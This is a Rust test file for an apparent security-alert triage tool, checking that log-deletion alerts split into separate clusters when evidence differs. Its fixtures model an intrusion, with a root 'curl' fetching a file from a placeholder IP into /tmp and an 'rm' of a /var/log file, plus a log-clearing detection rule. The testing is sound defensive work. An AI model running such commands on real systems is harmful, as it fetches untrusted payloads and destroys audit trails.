//! Clusters never mix alerts whose evidence differs (issue 11, item 1): alerts with one
//! signature (same rule, actor, lineage shape, target class) are split when an attack
//! signal is present in one and not in another.

use quell_rules::engine::Engine;
use quell_triage::catalogue::Catalogue;
use quell_triage::cluster::Signature;
use quell_triage::history::History;
use quell_triage::input::parse_records;
use quell_triage::{ClusterReport, Lang, Record, Triage, Verdict};
use serde_json::json;

const RULES: &str = r#"
- rule: Clear Log Activities
  desc: a log file under /var/log removed
  condition: evt.type in (unlink, unlinkat) and fs.path.name startswith /var/log/
  output: log removed (path=%fs.path.name process=%proc.name parent=%proc.pname)
  priority: WARNING
"#;

/// Triage of `recs` with the built-in catalogue, no history, in English.
fn triage(e: &Engine, recs: &[Record]) -> Vec<ClusterReport> {
    let cat = Catalogue::builtin();
    let h = History::empty();
    Triage {
        engine: e,
        catalogue: &cat,
        history: &h,
        lang: Lang::En,
        hostname: "h",
    }
    .run(recs)
}

/// An operator's deletion through the container runtime's terminal (`kubectl exec -it`),
/// session `sid`; with `download`, the session fetched a file from the internet first.
fn session(sid: i64, download: bool) -> Vec<String> {
    let base = json!({
        "proc.sid": sid, "proc.tty": 34816, "user.name": "root", "user.uid": 0,
        "container.id": "abc123def456", "container.image.repository": "docker.io/library/httpd",
    });
    let with = |extra: serde_json::Value| {
        let mut m = base.as_object().unwrap().clone();
        m.extend(extra.as_object().unwrap().clone());
        serde_json::Value::Object(m).to_string()
    };
    let mut out = vec![with(json!({
        "evt.type": "execve", "evt.rawres": 0, "evt.rawtime": 1, "proc.name": "bash",
        "proc.exepath": "/bin/bash", "proc.cmdline": "bash", "proc.pname": "runc",
    }))];
    if download {
        out.push(with(json!({
            "evt.type": "execve", "evt.rawres": 0, "evt.rawtime": 2, "proc.name": "curl",
            "proc.exepath": "/usr/bin/curl", "proc.cmdline": "curl -so /tmp/k http://203.0.113.7/k",
            "proc.pname": "bash", "proc.aname[2]": "runc",
        })));
    }
    out.push(with(json!({
        "evt.type": "unlinkat", "evt.rawres": 0, "evt.rawtime": 3, "proc.name": "rm",
        "proc.exepath": "/usr/bin/rm", "proc.cmdline": "rm /var/log/dpkg.log",
        "proc.pname": "bash", "proc.aname[2]": "runc", "fs.path.name": "/var/log/dpkg.log",
    })));
    out
}

/// Two deletions alike in every field the signature keys on, one of them in a session
/// that downloaded a file first: one signature, two clusters, the download's never a
/// likely false positive, the clean one unaffected by it.
#[test]
fn same_shape_pair_differing_only_in_a_download_is_split() {
    let mut e = Engine::new();
    assert!(e.load("rules.yaml", RULES).successful);
    let mut lines = session(10, false);
    let clean_at = lines.len() - 1;
    lines.extend(session(20, true));
    let dirty_at = lines.len() - 1;
    let recs = parse_records(&lines.join("\n"), "t").unwrap();
    assert_eq!(
        Signature::of("Clear Log Activities", &recs[clean_at].event),
        Signature::of("Clear Log Activities", &recs[dirty_at].event),
        "the pair must share a signature for the test to mean anything"
    );
    let reps = triage(&e, &recs);
    let cla: Vec<_> = reps
        .iter()
        .filter(|r| r.rule == "Clear Log Activities")
        .collect();
    assert_eq!(cla.len(), 2, "{cla:#?}");
    let clean = cla.iter().find(|r| r.members == vec![clean_at]).unwrap();
    let dirty = cla.iter().find(|r| r.members == vec![dirty_at]).unwrap();
    assert_ne!(clean.cluster, dirty.cluster);
    assert_ne!(dirty.verdict, Verdict::LikelyFalsePositive, "{dirty:#?}");
    assert!(
        dirty.reasons.iter().any(|r| r.signal == "session_download"),
        "{dirty:#?}"
    );
    assert!(
        !clean.reasons.iter().any(|r| r.signal == "session_download"),
        "{clean:#?}"
    );
    // Fed alone, the clean one gets the verdict it gets beside the other.
    let alone = parse_records(&session(10, false).join("\n"), "t").unwrap();
    let r = triage(&e, &alone);
    let r = r.iter().find(|r| r.rule == "Clear Log Activities").unwrap();
    assert_eq!((r.verdict, r.score), (clean.verdict, clean.score));
}

const TWO_RULES: &str = r#"
- rule: Clear Log Activities
  desc: a log file under /var/log removed
  condition: evt.type in (unlink, unlinkat) and fs.path.name startswith /var/log/
  output: log removed (path=%fs.path.name process=%proc.name parent=%proc.pname)
  priority: WARNING
- rule: Listing in container
  desc: ls run in a container
  condition: evt.type = execve and proc.name = ls
  output: ls run (process=%proc.name parent=%proc.pname)
  priority: NOTICE
"#;

/// Two deletions alike in every field and in their evidence, one in a session that also
/// raised another rule: two behaviours (an intruder's session raises several), two
/// clusters, each with the verdict and reasons it gets alone.
#[test]
fn same_evidence_pair_in_sessions_raising_other_rules_is_split() {
    let mut e = Engine::new();
    assert!(e.load("rules.yaml", TWO_RULES).successful);
    let mut lines = session(10, false);
    let quiet_at = lines.len() - 1;
    let mut other = session(20, false);
    let ls = other[0]
        .replace("\"bash\"", "\"ls\"")
        .replace("/bin/bash", "/bin/ls");
    let ls = ls.replacen("\"proc.pname\":\"runc\"", "\"proc.pname\":\"bash\"", 1);
    other.insert(1, ls);
    lines.extend(other);
    let busy_at = lines.len() - 1;
    let recs = parse_records(&lines.join("\n"), "t").unwrap();
    assert_eq!(
        Signature::of("Clear Log Activities", &recs[quiet_at].event),
        Signature::of("Clear Log Activities", &recs[busy_at].event),
    );
    let reps = triage(&e, &recs);
    assert!(
        reps.iter().any(|r| r.rule == "Listing in container"),
        "{reps:#?}"
    );
    let cla: Vec<_> = reps
        .iter()
        .filter(|r| r.rule == "Clear Log Activities")
        .collect();
    assert_eq!(cla.len(), 2, "{cla:#?}");
    let quiet = cla.iter().find(|r| r.members == vec![quiet_at]).unwrap();
    let busy = cla.iter().find(|r| r.members == vec![busy_at]).unwrap();
    assert_ne!(quiet.cluster, busy.cluster);
    let signals = |r: &quell_triage::ClusterReport| -> Vec<String> {
        r.reasons.iter().map(|x| x.signal.clone()).collect()
    };
    assert_eq!(
        signals(quiet),
        signals(busy),
        "the pair must have the same evidence for the test to mean anything"
    );
}
